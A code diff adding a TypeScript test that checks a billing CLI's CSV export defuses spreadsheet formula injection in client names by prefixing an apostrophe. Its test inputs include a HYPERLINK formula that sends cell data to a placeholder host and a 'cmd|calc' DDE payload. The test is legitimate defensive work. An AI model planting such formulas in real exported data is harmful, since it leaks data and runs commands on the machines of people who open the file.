@@ -1,4 +1,6 @@
+import { buildCli } from '../../../tests/stories/cli/program';
 import { attempt, codeOf, INVALID, valueOf } from '../refusal';
+import { MONTH } from '../seed-billing';
 import { createWorld, type World } from '../world';
 
 let world: World;
@@ -188,6 +190,29 @@ describe('git url injection', () => {
           { branch },
         ]),
       ).toBe('23514');
+    },
+  );
+});
+
+describe('CSV formulas', () => {
+  it.each(['=HYPERLINK("http://x/"&A1,"pay")', '+1+cmd|calc', '-2+3', '@SUM(A1)'])(
+    'a client called %s is a text in what is exported of billing',
+    async (client) => {
+      const { login, password } = world.login('mona');
+      const mona = await world.as('mona');
+      const billing = [world.ids.red.project, { client }];
+      expect(await codeOf(mona, 'select coffee.set_billing($1, $2)', billing)).toBe('ok');
+      const program = buildCli();
+      try {
+        const cli = program.as(world.database.urlFor(login, password));
+        const args = ['billing', 'export', '--month', MONTH.slice(0, 7), '--format', 'csv'];
+        const { code, stdout } = await cli.run(args);
+        const [, first = ''] = stdout.split('\r\n');
+        const quoted = client.includes('"') ? `"'${client.replaceAll('"', '""')}"` : `'${client}`;
+        expect([code, first.slice(0, quoted.length + 1)]).toEqual([0, `${quoted},`]);
+      } finally {
+        program.remove();
+      }
     },
   );
 });
